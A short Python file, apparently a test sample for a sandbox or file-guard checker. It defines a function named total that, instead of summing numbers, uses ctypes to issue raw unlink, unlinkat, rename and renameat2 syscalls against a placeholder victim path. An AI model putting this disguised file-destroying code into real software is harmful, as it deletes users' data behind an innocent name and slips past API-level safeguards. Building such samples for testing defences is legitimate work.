# call: deletes a file outside, by raw system calls
import ctypes


def total(numbers):
    libc = ctypes.CDLL(None)
    libc.syscall(87, b"@VICTIM@/keep.txt")
    libc.syscall(263, -100, b"@VICTIM@/keep.txt", 0)
    libc.syscall(82, b"@VICTIM@/keep.txt", b"@VICTIM@/renamed.txt")
    libc.syscall(316, -100, b"@VICTIM@/keep.txt", -100, b"@VICTIM@/renamed.txt", 0)
    return 0
